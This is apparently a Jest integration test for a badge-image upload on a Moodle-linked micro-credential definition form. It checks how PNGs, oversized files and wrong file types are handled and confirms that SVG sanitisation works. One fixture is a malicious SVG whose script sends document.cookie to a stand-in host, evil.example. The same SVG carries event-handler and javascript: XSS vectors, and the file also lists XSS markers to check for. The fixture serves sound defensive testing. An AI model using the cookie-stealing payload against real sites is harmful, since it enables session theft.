/**
 * The badge image on the definition form, through real launches: PNG accepted and served,
 * a malicious SVG sanitised before it is stored and served under a locked-down policy,
 * oversized or wrong-type files refused with a message, every typed value kept, and nothing
 * saved.
 */
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { eq } from 'drizzle-orm';
import { definitionVersions, images } from '../../src/db/schema/index.js';
import type { MicroCredentialDefinition } from '../../src/microcredentials/index.js';
import type { TestJalon } from '../helpers/jalon.js';
import type { Platform } from '../platform/index.js';
import {
  completeForm,
  fakeActivities,
  jalonWithMoodle,
  launch,
  png,
  postDefinition,
  savedState,
  text,
  type Session,
} from './definition-fixtures.js';

let jalon: TestJalon;
let moodle: Platform;
let prof: Session;

beforeAll(async () => {
  ({ jalon, moodle } = await jalonWithMoodle());
  jalon.running.services.activities = fakeActivities();
  prof = await launch(moodle, 'prof', 'math', 'en');
});

afterAll(async () => {
  await moodle?.close();
  await jalon?.stop();
});

async function latestDefinition(): Promise<MicroCredentialDefinition | undefined> {
  const rows = await jalon.database.db.select().from(definitionVersions);
  return rows.sort((a, b) => b.version - a.version)[0]?.definition as MicroCredentialDefinition | undefined;
}

async function badgeImage(s: Session) {
  const url = `${jalon.url}/lti/definition/badge-image?ltik=${encodeURIComponent(s.ltik)}`;
  const cookie = s.browser.jar.header(url);
  const res = await fetch(url, { headers: cookie ? { cookie } : {} });
  return { status: res.status, headers: res.headers, bytes: Buffer.from(await res.arrayBuffer()) };
}

const MALICIOUS_SVG = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200" onload="alert('svg')">
  <script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
  <rect width="200" height="200" fill="#0b5cad" onclick="alert(1)"/>
  <foreignObject width="10" height="10"><iframe src="https://evil.example/"></iframe></foreignObject>
  <image href="https://evil.example/track.png" width="10" height="10"/>
  <a xlink:href="javascript:alert(2)"><circle cx="100" cy="100" r="50" fill="#fff"/></a>
</svg>`;

describe('badge image', () => {
  test('a PNG is checked, saved with the definition and served to the course', async () => {
    const bytes = png(200, 200);
    const r = await postDefinition(jalon, prof, completeForm(), {
      file: { bytes, filename: 'badge.png', type: 'image/png' },
    });
    expect(r.status).toBe(200);
    expect(text(r.body)).toContain('Saved: version 1 of the micro-credential was created.');
    const def = await latestDefinition();
    expect(def?.imageId).toMatch(/^[0-9a-f]{64}$/);
    const [row] = await jalon.database.db.select().from(images).where(eq(images.id, def!.imageId!));
    expect(row).toMatchObject({ mime: 'image/png', width: 200, height: 200 });
    const served = await badgeImage(prof);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('image/png');
    expect(served.bytes.equals(bytes)).toBe(true);
    // The form now shows the current image and offers to remove it.
    expect(r.body).toContain('/lti/definition/badge-image?ltik=');
    expect(r.body).toContain('name="badgeImage.remove"');
    // A learner of the course sees the same image.
    const ana = await launch(moodle, 'ana', 'math');
    expect((await badgeImage(ana)).bytes.equals(bytes)).toBe(true);
  });

  test('saving again without a file keeps the image', async () => {
    const before = (await latestDefinition())?.imageId;
    const r = await postDefinition(jalon, prof, completeForm({ notionalHours: '18' }));
    expect(r.status).toBe(200);
    expect((await latestDefinition())?.imageId).toBe(before);
  });

  test('a malicious SVG is sanitised before it is stored, and served under a locked-down policy', async () => {
    const r = await postDefinition(jalon, prof, completeForm(), {
      file: { bytes: Buffer.from(MALICIOUS_SVG), filename: 'badge.png', type: 'image/png' },
    });
    expect(r.status).toBe(200);
    const def = await latestDefinition();
    const [row] = await jalon.database.db.select().from(images).where(eq(images.id, def!.imageId!));
    // The real type comes from the bytes, not the name or the declared type.
    expect(row!.mime).toBe('image/svg+xml');
    const served = await badgeImage(prof);
    expect(served.headers.get('content-type')).toContain('image/svg+xml');
    expect(served.headers.get('content-security-policy')).toContain("default-src 'none'");
    expect(served.headers.get('content-security-policy')).toContain('sandbox');
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    const svg = served.bytes.toString('utf8');
    for (const bad of [
      '<script',
      'onload',
      'onclick',
      'foreignObject',
      'iframe',
      'evil.example',
      'javascript:',
    ])
      expect(svg).not.toContain(bad);
    expect(svg).toContain('<rect');
    expect(svg).toContain('<circle');
  });

  test('removing the image leaves the definition without one', async () => {
    const r = await postDefinition(jalon, prof, completeForm({ 'badgeImage.remove': 'yes' }));
    expect(r.status).toBe(200);
    expect((await latestDefinition())?.imageId).toBeUndefined();
    expect((await badgeImage(prof)).status).toBe(404);
  });

  test.each([
    ['an image over 1 MB', png(200, 200, 1_200_000), 'The image is too large (at most 1024 KB).'],
    ['an image over the upload limit', png(200, 200, 4_300_000), 'The image is too large (at most 1024 KB).'],
    ['a GIF', Buffer.from('GIF89a\u0001\u0000\u0001\u0000'), 'The image must be a PNG or an SVG file.'],
    [
      'an HTML page named .svg',
      Buffer.from('<html><script>alert(1)</script></html>'),
      'The image must be a PNG or an SVG file.',
    ],
    ['a tiny PNG', png(20, 20), 'The image is 20 × 20 pixels; each side must be between 90 and 4096 pixels.'],
    [
      'an SVG with entities',
      Buffer.from(
        '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "y">]><svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"/>',
      ),
      'SVG files with a DOCTYPE or entities are refused for safety.',
    ],
  ])('%s is refused with a message, values kept, nothing saved', async (_name, bytes, message) => {
    const before = await savedState(jalon);
    const versionBefore = await latestDefinition();
    const r = await postDefinition(jalon, prof, completeForm({ 'title.en': 'Changed title' }), {
      file: { bytes, filename: 'badge.svg', type: 'image/svg+xml' },
    });
    expect(r.status).toBe(400);
    const body = text(r.body);
    expect(body).toContain(`<li><a href="#f-badgeImage">Badge image (optional): ${message}</a></li>`);
    expect(r.body).toMatch(
      /id="f-badgeImage"[^>]*aria-describedby="e-f-badgeImage h-f-badgeImage" aria-invalid="true"/,
    );
    expect(body).toContain('value="Changed title"');
    expect(await savedState(jalon)).toEqual(before);
    expect(await latestDefinition()).toEqual(versionBefore);
  });

  test('a valid image sent with an invalid form is not stored, and the instructor is told to choose it again', async () => {
    const before = await savedState(jalon);
    const r = await postDefinition(jalon, prof, completeForm({ notionalHours: '2' }), {
      file: { bytes: png(150, 150), filename: 'badge.png', type: 'image/png' },
    });
    expect(r.status).toBe(400);
    expect(text(r.body)).toContain(
      'Nothing was saved, so the image you chose was not kept: choose it again.',
    );
    expect(await savedState(jalon)).toEqual(before);
  });
});
